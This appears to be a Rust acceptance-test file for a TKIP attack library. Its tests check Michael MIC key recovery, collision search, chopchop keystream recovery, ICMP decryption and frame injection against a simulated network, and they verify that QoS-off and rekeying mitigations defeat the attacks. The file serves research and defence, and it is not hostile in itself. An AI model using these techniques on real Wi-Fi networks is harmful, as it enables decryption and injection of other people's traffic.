//! One check per acceptance criterion; each prints a `criterion N: PASS|FAIL`
//! line straight to stderr so it shows up without `--nocapture`.

use std::collections::BTreeSet;
use std::io::Write;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use tkipkit::addr::{Direction, MacAddr};
use tkipkit::attacks::{
    icmp_insert_template, AttackError, ChopConfig, ChopResult, IcmpDecryptConfig, Session,
};
use tkipkit::bench::{bench_collide, summarize, BenchConfig};
use tkipkit::collision::{
    build_filter, find_magic_words_naive, search_filtered, search_naive, Anchor, CollisionError,
    CollisionProblem, MagicWords, SearchOptions,
};
use tkipkit::frames::icv;
use tkipkit::frames::packet::{llc_snap, ETHERTYPE_IPV4};
use tkipkit::keystream::{KeystreamEntry, Provenance};
use tkipkit::michael::{
    block, inverse_block, mic_compute, michael, recover_key, state_after, MicHeader, MicKey, Michael16, MichaelState,
    Width,
};
use tkipkit::simnet::{run, Attacker, Scenario, MS, SECOND};

fn report(n: u32, pass: bool, detail: impl AsRef<str>) {
    let line = format!("criterion {n}: {} {}\n", if pass { "PASS" } else { "FAIL" }, detail.as_ref());
    let _ = std::io::stderr().write_all(line.as_bytes());
    assert!(pass, "criterion {n} failed: {}", detail.as_ref());
}

fn random_mac(rng: &mut ChaCha8Rng) -> MacAddr {
    let mut m: [u8; 6] = rng.gen();
    m[0] = (m[0] | 2) & 0xfe;
    MacAddr(m)
}

fn random_header(rng: &mut ChaCha8Rng) -> MicHeader {
    MicHeader::new(random_mac(rng), random_mac(rng), rng.gen_range(0..8)).unwrap()
}

fn random_bytes(rng: &mut ChaCha8Rng, len: usize) -> Vec<u8> {
    (0..len).map(|_| rng.gen()).collect()
}

fn key_from_hex(s: &str) -> MicKey {
    MicKey::from_bytes(hex::decode(s).unwrap().try_into().unwrap(), Direction::ApToClient)
}

#[test]
fn criterion_01_michael_vectors_and_roundtrip() {
    let t0 = Instant::now();
    // Published Michael test vectors; each key is the previous output.
    let vectors: [(&str, &[u8], &str); 6] = [
        ("0000000000000000", b"", "82925c1ca1d130b8"),
        ("82925c1ca1d130b8", b"M", "434721ca40639b3f"),
        ("434721ca40639b3f", b"Mi", "e8f9becae97e5d29"),
        ("e8f9becae97e5d29", b"Mic", "90038fc6cf13c1db"),
        ("90038fc6cf13c1db", b"Mich", "d55e100510128986"),
        ("d55e100510128986", b"Michael", "0a942b124ecaa546"),
    ];
    let vec_ok = vectors
        .iter()
        .filter(|(k, m, want)| hex::encode(michael(&key_from_hex(k), m)) == *want)
        .count();

    let mut rng = ChaCha8Rng::seed_from_u64(1);
    let mut failures = 0;
    for _ in 0..100_000 {
        let s = MichaelState::new(rng.gen(), rng.gen());
        if inverse_block(block(s)) != s || block(inverse_block(s)) != s {
            failures += 1;
        }
    }
    let elapsed = t0.elapsed();
    report(
        1,
        vec_ok == vectors.len() && failures == 0 && elapsed < Duration::from_secs(1),
        format!(
            "vectors {vec_ok}/{}, roundtrip failures {failures}/100000, {:.3} s",
            vectors.len(),
            elapsed.as_secs_f64()
        ),
    );
}

#[test]
fn criterion_02_key_recovery() {
    let mut rng = ChaCha8Rng::seed_from_u64(2);
    let mut exact = 0;
    for i in 0..1000 {
        let dir = if i % 2 == 0 { Direction::ApToClient } else { Direction::ClientToAp };
        let key = MicKey::new(rng.gen(), rng.gen(), dir);
        let h = random_header(&mut rng);
        let len = rng.gen_range(0..=1500);
        let payload = random_bytes(&mut rng, len);
        let mic = mic_compute(&key, &h, &payload).unwrap();
        if recover_key(&h, &payload, &mic, dir).unwrap() == key {
            exact += 1;
        }
    }
    report(2, exact == 1000, format!("{exact}/1000 keys recovered exactly"));
}

#[test]
fn criterion_03_concatenation_invariance() {
    let mut rng = ChaCha8Rng::seed_from_u64(3);
    let opts = SearchOptions::default();
    let mut exact = 0;
    let mut total = 0;
    for _ in 0..100 {
        let key = MicKey::new(rng.gen(), rng.gen(), Direction::ApToClient);
        let h = random_header(&mut rng);
        let secret_len = rng.gen_range(1..=1400);
        let secret = random_bytes(&mut rng, secret_len);
        let template = icmp_insert_template(
            Ipv4Addr::from(rng.gen::<u32>()),
            Ipv4Addr::from(rng.gen::<u32>()),
            rng.gen(),
            4 * rng.gen_range(0..8),
            secret_len,
        );
        for anchor in [Anchor::KeyState, Anchor::AfterHeaderState] {
            let sol = tkipkit::attacks::solve_reset(&key, &h, &h, &template, 1 << 16, anchor, 8, &opts).unwrap();
            let mut msg = sol.spliced.clone();
            msg.extend_from_slice(&secret);
            total += 1;
            if mic_compute(&key, &h, &msg).unwrap() == mic_compute(&key, &h, &secret).unwrap() {
                exact += 1;
            }
        }
    }
    report(3, exact == total, format!("{exact}/{total} spliced MICs equal the secret's MIC"));
}

#[test]
fn criterion_04_naive_finder_planted() {
    let mut rng = ChaCha8Rng::seed_from_u64(4);
    let opts = SearchOptions::with_workers(4);
    let mut verified = 0;
    let mut positions = Vec::new();
    let mut planted_sum = 0.0;
    let mut slowest = Duration::ZERO;
    for _ in 0..50 {
        let key = MicKey::new(rng.gen(), rng.gen(), Direction::ApToClient);
        let h = random_header(&mut rng);
        let words = rng.gen_range(1..16);
        let prefix = random_bytes(&mut rng, 4 * words);
        let s = state_after(&key, Some(&h), &prefix, false).unwrap();
        let planted = MagicWords {
            mw1: rng.gen(),
            mw2: rng.gen(),
        };
        let p = CollisionProblem {
            key,
            initial_states: vec![(0, s)],
            target: planted.apply(s),
            anchor: Anchor::KeyState,
        };
        let t0 = Instant::now();
        let sol = find_magic_words_naive(&p, 0..1 << 32, &opts).unwrap();
        slowest = slowest.max(t0.elapsed());
        if sol.words.apply(s) == p.target && sol.position <= u64::from(planted.mw1) + 1 {
            verified += 1;
        }
        positions.push(sol.position as f64 / 2f64.powi(32));
        planted_sum += f64::from(planted.mw1) / 2f64.powi(32);
    }
    let mean = positions.iter().sum::<f64>() / positions.len() as f64;
    report(
        4,
        verified == 50 && (0.4..=0.6).contains(&mean) && slowest <= Duration::from_secs(60),
        format!(
            "{verified}/50 verified, mean first hit {mean:.4}·2^32 (planted mean {:.4}), slowest {:.1} s",
            planted_sum / 50.0,
            slowest.as_secs_f64()
        ),
    );
}

#[test]
fn criterion_05_filtered_finder_statistics() {
    let cfg = BenchConfig {
        n: 8,
        k: 16,
        keys: 1024,
        seed: 5,
        ..BenchConfig::default()
    };
    let path = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("bench_n8_k16.csv");
    let file = std::fs::File::create(&path).unwrap();
    let rows = bench_collide(&cfg, std::io::BufWriter::new(file)).unwrap();
    let csv_rows = std::fs::read_to_string(&path).unwrap().lines().count() - 1;
    let s = summarize(&rows).unwrap();
    report(
        5,
        csv_rows == 1024 && s.mean_fraction <= 0.005 && s.p95_fraction <= 0.03 && s.speedup >= 100.0,
        format!(
            "{} keys, mean fraction {:.4}%, p95 {:.4}%, speedup {:.0}x, wall mean {:.1} ms p95 {:.1} ms ({})",
            s.rows,
            s.mean_fraction * 100.0,
            s.p95_fraction * 100.0,
            s.speedup,
            s.mean_ms,
            s.p95_ms,
            path.display()
        ),
    );
}

type W16 = (u16, u16);

fn fwd16(s: W16, mw1: u16, mw2: u16) -> W16 {
    let (l, r) = Michael16::block(s.0 ^ mw1, s.1);
    Michael16::block(l ^ mw2, r)
}

/// Every `(id, mw1, mw2)` reaching `target`: each first word is pushed one
/// block forward and the unique second word, if any, read off the inverted
/// target.
fn solution_set(states: &[(u32, W16)], target: W16) -> BTreeSet<(u32, u16, u16)> {
    let (l3, r2) = Michael16::inverse_block(target.0, target.1);
    let mut out = BTreeSet::new();
    for &(id, s) in states {
        for mw1 in 0..=u16::MAX {
            let (l, r) = Michael16::block(s.0 ^ mw1, s.1);
            if r == r2 {
                let mw2 = l ^ l3;
                assert_eq!(fwd16(s, mw1, mw2), target);
                out.insert((id, mw1, mw2));
            }
        }
    }
    out
}

#[test]
fn criterion_06_oracle_equivalence_16_bit() {
    let mut rng = ChaCha8Rng::seed_from_u64(6);
    let opts = SearchOptions {
        workers: 2,
        chunk: 1 << 10,
        cancel: None,
    };
    let mut agree = 0;
    let mut empties = (0, 0);
    for _ in 0..100 {
        // Naive: one state, first hit must be the lowest first word in the set.
        let s: W16 = (rng.gen(), rng.gen());
        let target: W16 = (rng.gen(), rng.gen());
        let set = solution_set(&[(0, s)], target);
        let naive_ok = match search_naive::<Michael16>(s, target, 0..1 << 16, &opts) {
            Ok(h) => {
                let first = set.iter().next();
                set.contains(&(0, h.mw1, h.mw2)) && first.map(|&(_, m, _)| u64::from(m) + 1) == Some(h.position)
            }
            Err(CollisionError::NotFound) => {
                empties.0 += 1;
                set.is_empty()
            }
            Err(_) => false,
        };

        // Filtered: several states; only the filter's survivors are searched.
        let count = rng.gen_range(1..=8);
        let states: Vec<(u32, W16)> = (0..count).map(|i| (i, (rng.gen(), rng.gen()))).collect();
        let n = rng.gen_range(1..=3);
        let rights: Vec<(u32, u32)> = states.iter().map(|&(id, (_, r))| (id, u32::from(r))).collect();
        let filter = build_filter(&rights, n).unwrap();
        let kept: Vec<(u32, W16)> = states
            .iter()
            .copied()
            .filter(|(id, _)| filter.subset.iter().any(|(k, _)| k == id))
            .collect();
        let target: W16 = (rng.gen(), rng.gen());
        let set = solution_set(&kept, target);
        let filtered_ok = match search_filtered::<Michael16>(&states, &filter, target, 0..1 << 16, &opts) {
            Ok(h) => {
                let lowest_mw2 = set.iter().map(|&(_, _, m)| m).min();
                set.contains(&(h.variant_id, h.mw1, h.mw2)) && lowest_mw2 == Some(h.mw2)
            }
            Err(CollisionError::NotFound) => {
                empties.1 += 1;
                set.is_empty()
            }
            Err(_) => false,
        };
        if naive_ok && filtered_ok {
            agree += 1;
        }
    }
    report(
        6,
        agree == 100,
        format!(
            "{agree}/100 instances agree (naive NotFound {}, filtered NotFound {})",
            empties.0, empties.1
        ),
    );
}

fn chop_first_arp(a: &mut Attacker<'_>, s: &mut Session) -> Result<ChopResult, AttackError> {
    let arp = s.await_arp(a, 30 * SECOND).ok_or(AttackError::NotReady("no ARP frame"))?;
    s.chopchop(a, &arp, &ChopConfig::default())
}

/// Keep only `entries` in the pool.
fn set_pool(s: &mut Session, entries: Vec<KeystreamEntry>) {
    s.pool.retain(|_| false);
    for mut e in entries {
        e.confirmed = true;
        s.pool.insert(vec![e]);
    }
}

fn truncated(e: &KeystreamEntry, len: usize) -> KeystreamEntry {
    KeystreamEntry {
        bytes: e.bytes[..len].to_vec(),
        ..e.clone()
    }
}

fn body_of(len: usize) -> Vec<u8> {
    let mut b = llc_snap(ETHERTYPE_IPV4).to_vec();
    b.resize(len, 0x5c);
    b
}

/// Inject `len` bytes on `channel`; returns the fragment count.
fn try_inject(a: &mut Attacker<'_>, s: &mut Session, channel: u8, len: usize) -> Result<usize, AttackError> {
    let (frame, _) = s.forge(Some(channel), &body_of(len))?;
    let fragments = frame.mpdus.len();
    s.inject(a, frame);
    s.wait(a, 50 * MS);
    Ok(fragments)
}

#[test]
fn criterion_07_fragment_capacity() {
    let sc = Scenario::default();
    let r = run(&sc, |a| {
        let mut s = Session::new();
        let chop = chop_first_arp(a, &mut s).unwrap();
        let mut out = Vec::new();
        let mut used = Vec::new();

        // 16 LLC/IPv4 guesses of 12 bytes.
        let llc: Vec<KeystreamEntry> = s
            .pool
            .entries()
            .filter(|e| e.provenance == Provenance::LlcIpGuess && e.bytes.len() == 12)
            .take(16)
            .cloned()
            .collect();
        let cases: Vec<(u8, Vec<KeystreamEntry>, usize)> = {
            let chopped = s.pool.get(chop.tsc).unwrap().clone();
            vec![(2, llc, 120), (3, vec![truncated(&chopped, 40)], 28)]
        };
        for (channel, entries, want) in cases {
            for (len, expect_ok) in [(want + 1, false), (want, true)] {
                set_pool(&mut s, entries.clone());
                used.extend(entries.iter().cloned());
                let cap = s.pool.inject_capacity(channel);
                let res = try_inject(a, &mut s, channel, len);
                out.push((want, len, expect_ok, cap, res.map_err(|e| e.kind())));
            }
        }

        // 16 ARP frames harvested once the chop taught us their contents.
        s.pool.retain(|_| false);
        s.wait(a, 100 * SECOND);
        let arps: Vec<KeystreamEntry> = s
            .pool
            .entries()
            .filter(|e| e.bytes.len() == 48)
            .take(16)
            .map(|e| truncated(e, 40))
            .collect();
        for (len, expect_ok) in [(569, false), (568, true)] {
            set_pool(&mut s, arps.clone());
            used.extend(arps.iter().cloned());
            let cap = s.pool.inject_capacity(4);
            let res = try_inject(a, &mut s, 4, len);
            out.push((568, len, expect_ok, cap, res.map_err(|e| e.kind())));
        }
        (out, used)
    })
    .unwrap();
    let (cases, used) = r.result;

    // Each pool was set twice: 2 x (16 + 1 + 16) entries, all true keystream.
    let exact = used.len() == 66 && used.iter().all(|e| r.audit.entry_is_exact(e));
    let mut pass = exact && r.audit.countermeasures.is_empty();
    let mut detail = Vec::new();
    for (want, len, expect_ok, cap, res) in &cases {
        let accepted = r.audit.accepted.iter().any(|x| x.injected && x.body == body_of(*len));
        let ok = if *expect_ok {
            *cap == Ok(*want) && res.is_ok() && accepted
        } else {
            res.is_err() && !accepted
        };
        pass &= ok;
        detail.push(format!(
            "{len}B {}",
            match (res, accepted) {
                (Ok(f), true) => format!("accepted in {f} fragments"),
                (Ok(_), false) => "sent but not accepted".into(),
                (Err(k), _) => format!("refused ({k})"),
            }
        ));
    }
    report(7, pass, format!("capacities 120/28/568: {}", detail.join(", ")));
}

#[test]
fn criterion_08_chopchop_end_to_end() {
    let mut all_ok = true;
    let mut guesses = Vec::new();
    let mut bad = Vec::new();
    for seed in 0..20u64 {
        let sc = Scenario {
            seed: 800 + seed,
            ..Scenario::default()
        };
        let r = run(&sc, |a| {
            let mut s = Session::new();
            chop_first_arp(a, &mut s)
        })
        .unwrap();
        let Ok(res) = r.result else {
            all_ok = false;
            bad.push(format!("seed {}: {:?}", sc.seed, r.result.err()));
            continue;
        };
        let sent = r.audit.sent_frame(Direction::ApToClient, res.tsc).unwrap();
        let mut want = sent.body.clone();
        want.extend_from_slice(&sent.mic);
        let c = icv(&want);
        want.extend_from_slice(&c);
        let n = res.plaintext_tail.len();
        let ok = res.plaintext.as_deref() == Some(&want[..])
            && res.plaintext_tail == want[want.len() - n..]
            && res.mic_key == Some(r.audit.current().down.mic)
            && r.audit.countermeasures.is_empty()
            && res.finished - res.started >= 60 * SECOND * (n as u64 - 1);
        if !ok {
            bad.push(format!("seed {}", sc.seed));
        }
        all_ok &= ok;
        guesses.extend_from_slice(&res.guesses);
    }
    let mean = guesses.iter().map(|&g| f64::from(g)).sum::<f64>() / guesses.len().max(1) as f64;
    report(
        8,
        all_ok && (120.0..=136.0).contains(&mean),
        format!(
            "20 seeds, {} bytes, mean guesses/byte {mean:.2}{}",
            guesses.len(),
            if bad.is_empty() { String::new() } else { format!(", bad: {}", bad.join("; ")) }
        ),
    );
}

#[test]
fn criterion_09_icmp_decryption() {
    let sc = Scenario {
        traffic_ipv4_len: 200..=200,
        ..Scenario::default()
    };
    let r = run(&sc, |a| {
        let mut s = Session::new();
        chop_first_arp(a, &mut s).unwrap();
        s.wait(a, 5 * SECOND);
        let targets: Vec<_> = s
            .captured
            .iter()
            .rev()
            .filter(|c| c.frame.len() > 64)
            .take(2)
            .map(|c| c.frame.clone())
            .collect();
        let first = s.icmp_decrypt(a, &targets[1], &IcmpDecryptConfig::default());
        let cfg = IcmpDecryptConfig {
            only: Some(Provenance::IcmpEchoLoop),
            ..IcmpDecryptConfig::default()
        };
        let second = s.icmp_decrypt(a, &targets[0], &cfg);
        (first, second)
    })
    .unwrap();
    let mut detail = Vec::new();
    let mut pass = r.audit.countermeasures.is_empty();
    for (name, d) in [("first", &r.result.0), ("second", &r.result.1)] {
        match d {
            Ok(d) => {
                let sent = r.audit.sent_frame(Direction::ApToClient, d.tsc).unwrap();
                let ok = d.body == sent.body && d.mic == sent.mic && r.audit.entry_is_exact(&d.keystream);
                pass &= ok && d.body.len() == 200;
                detail.push(format!(
                    "{name}: {} bytes {} via {} fragments",
                    d.body.len(),
                    if ok { "exact" } else { "WRONG" },
                    d.fragments
                ));
            }
            Err(e) => {
                pass = false;
                detail.push(format!("{name}: {e}"));
            }
        }
    }
    if let Ok(d) = &r.result.1 {
        pass &= d.solution.spliced.len() <= d.keystream.bytes.len();
    }
    report(9, pass, detail.join(", "));
}

#[test]
fn criterion_10_mitigations() {
    let chop_fails = |sc: Scenario| {
        let r = run(&sc, |a| {
            let mut s = Session::new();
            chop_first_arp(a, &mut s)
        })
        .unwrap();
        matches!(r.result, Err(AttackError::NoGuessAccepted { .. }))
    };
    let qos_chop = chop_fails(Scenario {
        qos: false,
        ..Scenario::default()
    });
    let rekey_chop = chop_fails(Scenario {
        rekey_interval_s: 120,
        ..Scenario::default()
    });

    // Without QoS, hand the attacker the MIC key (taken from an identical
    // earlier run); the reset still needs an older counter to replay against.
    let sc = Scenario {
        qos: false,
        ..Scenario::default()
    };
    let key = run(&sc, |a| a.wait(SECOND)).unwrap().audit.current().down.mic;
    let r = run(&sc, |a| {
        let mut s = Session::new();
        s.await_arp(a, 30 * SECOND).unwrap();
        s.mic_key = Some(key);
        s.learn_arp(&{
            let mut b = llc_snap(tkipkit::frames::packet::ETHERTYPE_ARP).to_vec();
            b.extend_from_slice(
                &tkipkit::frames::packet::ArpPacket {
                    op: 1,
                    sender_mac: sc.ap_mac,
                    sender_ip: sc.ap_ip,
                    target_mac: MacAddr::ZERO,
                    target_ip: sc.client_ip,
                }
                .encode(),
            );
            b
        });
        s.wait(a, 5 * SECOND);
        let target = s.captured.iter().rev().find(|c| c.frame.len() > 64).unwrap().frame.clone();
        s.icmp_decrypt(a, &target, &IcmpDecryptConfig::default())
    })
    .unwrap();
    let icmp_fails = r.result.is_err();
    report(
        10,
        qos_chop && rekey_chop && icmp_fails,
        format!(
            "QoS off: chopchop {}, ICMP decryption {}; rekey 120 s: chopchop {}",
            if qos_chop { "fails" } else { "SUCCEEDS" },
            match &r.result {
                Err(e) => format!("fails ({})", e.kind()),
                Ok(_) => "SUCCEEDS".into(),
            },
            if rekey_chop { "fails" } else { "SUCCEEDS" },
        ),
    );
}
